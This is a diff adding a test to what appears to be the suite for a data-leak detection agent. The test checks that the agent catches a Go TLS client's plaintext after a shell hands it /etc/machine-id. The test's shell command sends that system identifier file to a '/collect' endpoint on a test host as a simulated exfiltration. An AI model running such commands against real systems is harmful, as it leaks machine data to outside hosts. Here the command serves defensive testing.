@@ -239,6 +239,28 @@ def test_go_client_sending_at_once_is_probed_while_its_open_is_held(host):
                                                    st["hooks"]["last_attach_us"]))
 
 
+def test_go_client_exec_d_by_a_shell_that_opened_the_identifier_is_probed(host):
+    """`gotls_leak - URL < /etc/machine-id`: the shell opens the file, then execs the Go client,
+    which reads the fd it was handed. With the hooks attached the shell's open marks the fd and
+    introduces the shell (its executable looked at then); the exec must make the agent look at
+    the new image before its first read is judged, or the Go client's plaintext is missed and
+    only its ciphertext raises a (suspected) alert."""
+    exe = build_go_client("gotls_leak")
+    sock = os.path.join(os.path.dirname(exe), "gotls-4.sock")
+    args = ["--socket", sock, "--hooks", "always"]
+    with Agent(policy_text=POLICY_MACHINE_ID, args=args) as agent:
+        with open(os.path.join(os.path.dirname(exe), "gotls-4.out"), "w") as out:
+            # the shell holds the file a while before the exec: the agent has introduced it
+            # (and looked at /bin/sh) by then; the client waits 500 ms before it sends, as
+            # go_leak's callers do, for the probe's attach
+            p = subprocess.run(["sh", "-c", 'exec 0</etc/machine-id; sleep 0.3; '
+                                'exec "$0" - "$1" 500', exe,
+                                "https://%s:8443/collect" % host.addr],
+                               stdout=out, stderr=subprocess.STDOUT, timeout=30)
+        expect_eq(0, p.returncode, "the Go client's exit status")
+        expect_one_go_alert(agent, host)
+
+
 def test_stripped_go_executable_is_probed_by_its_function_table(host):
     """Stripped of .symtab (-ldflags=-s -w), a Go executable still carries the function table its
     runtime needs (.gopclntab): (*Conn).Write is found there."""
